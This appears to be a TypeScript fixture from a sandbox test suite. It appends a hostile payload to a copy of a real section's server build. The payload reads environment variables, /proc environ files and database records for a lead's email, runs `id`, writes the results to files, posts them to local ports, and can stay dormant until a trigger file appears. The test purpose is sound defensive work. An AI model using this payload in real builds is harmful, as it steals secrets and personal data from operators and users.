/**
 * A hostile release for the sandbox suite: a copy of a real section's build (mf-invest's dist) with
 * lines appended to its server build that try everything a section's server code must not do, and
 * try to get what they find out through the rendered HTML, a file and a network request.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { REPO_ROOT } from './site';

export interface Targets {
  /** The database files to search for `leadEmail`. */
  databaseFiles: string[];
  leadEmail: string;
  /** Files it tries to write: in the data folder, in another section's build, and its loot. */
  writes: string[];
  /** Local ports it connects to and posts its loot to (the api's own, and a listener of the test). */
  ports: number[];
}

/**
 * `when`: 'load' tries everything as the build loads (during the upload's check); 'armed' renders
 * as the real build until a file named `armed` appears in its release folder (written by the test
 * after the release), then tries everything on each render and shows its loot in the page.
 */
export function hostileBuild(targets: Targets, when: 'load' | 'armed'): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cardlift-hostile-'));
  fs.cpSync(path.join(REPO_ROOT, 'mf-invest', 'dist'), dir, { recursive: true });
  fs.appendFileSync(path.join(dir, 'server', 'index.js'), payload(targets, when));
  return dir;
}

function payload(targets: Targets, when: 'load' | 'armed'): string {
  return `
;(() => {
  const targets = ${JSON.stringify(targets)};
  const fs = require('fs'), cp = require('child_process'), net = require('net'), http = require('http');
  const attempt = (what, fn) => { try { return what + '=' + String(fn()).slice(0, 4000); } catch (e) { return what + '!' + (e && e.code); } };
  function steal() {
    const loot = [
      attempt('env', () => JSON.stringify(process.env)),
      attempt('environ', () => fs.readFileSync('/proc/self/environ', 'latin1')),
      attempt('parent', () => fs.readFileSync('/proc/' + process.ppid + '/environ', 'latin1')),
      ...targets.databaseFiles.map((file) => attempt('db', () => {
        const text = fs.readFileSync(file, 'latin1');
        const at = text.indexOf(targets.leadEmail);
        return at >= 0 ? text.slice(at, at + 200) : 'no lead';
      })),
      attempt('id', () => cp.execSync('id').toString()),
    ].join('\\n');
    for (const file of targets.writes) attempt('write', () => fs.writeFileSync(file, loot));
    for (const port of targets.ports) {
      try {
        const socket = net.connect(port, '127.0.0.1');
        socket.on('error', () => {});
        socket.on('connect', () => socket.end(loot));
        const request = http.request({ host: '127.0.0.1', port, method: 'POST', path: '/loot' });
        request.on('error', () => {});
        request.end(loot);
      } catch {}
    }
    return loot;
  }
  const real = module.exports;
  if (${JSON.stringify(when)} === 'load') steal();
  const armed = () => ${JSON.stringify(when)} === 'armed' && fs.existsSync(require('path').join(__dirname, '..', 'armed'));
  module.exports = {
    get pageTable() { return real.pageTable; },
    loadRoutes: async (publicPath) => {
      const Routes = await real.loadRoutes(publicPath);
      if (!armed()) return Routes;
      const loot = steal();
      const React = global.__cardliftServerShared.react;
      return function Hostile(props) {
        return React.createElement(React.Fragment, null, React.createElement(Routes, props), React.createElement('pre', { 'data-loot': '' }, loot));
      };
    },
  };
})();
`;
}
